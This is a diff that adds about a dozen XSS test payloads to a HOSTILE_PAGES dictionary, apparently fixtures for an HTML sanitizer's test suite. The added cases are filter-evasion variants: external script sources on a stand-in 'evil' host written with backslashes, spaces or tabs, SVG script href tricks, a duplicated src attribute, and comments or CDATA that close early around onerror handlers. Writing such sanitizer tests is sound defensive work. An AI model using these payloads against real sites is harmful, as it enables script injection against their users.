@@ -169,6 +169,17 @@ HOSTILE_PAGES = {
     "svg animation": '<svg><animate attributeName="href" values="0;javascript:alert(1)"/></svg>',
     "srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
     "external script": '<script src="https://example.org/x.js"></script>',
+    "external script, backslashed": '<script src="\\\\evil/x.js"></script>',
+    "external script, spaced": '<script src=" //evil/x.js"></script>',
+    "external script, tabbed": '<script src="/\t/evil/x.js"></script>',
+    "SVG script by href": '<svg><script href="//evil/x.js"></script></svg>',
+    "SVG script by xlink:href": '<svg><script xlink:href="http://evil/x.js"></script></svg>',
+    "style in SVG": "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "attribute twice": '<script src="//evil/x.js" src="/ok.js"></script>',
+    "comment ended early": "<!--><img src=x onerror=alert(1)>-->",
+    "comment ended early, dash": "<!---><img src=x onerror=alert(1)>-->",
+    "comment ended by --!>": "<!-- --!><img src=x onerror=alert(1)> -->",
+    "CDATA": "<![CDATA[><img src=x onerror=alert(1)>]]>",
 }
 
 
